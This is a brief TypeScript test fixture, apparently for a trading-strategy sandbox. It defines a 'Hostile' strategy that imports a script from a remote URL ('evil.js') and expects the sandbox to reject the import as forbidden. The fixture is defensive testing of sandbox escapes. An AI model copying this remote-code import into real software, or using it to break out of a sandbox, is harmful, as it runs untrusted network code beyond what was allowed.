// class: escape
// tries: code from the network
// expect: rejected forbidden|import
import evil from 'https://example.com/evil.js';
import { Strategy, type Bar } from '@paddock/sdk';

export default class Hostile extends Strategy({ name: 'hostile' }) {
  override onBar(_bar: Bar): void {
    this.log(evil);
  }
}
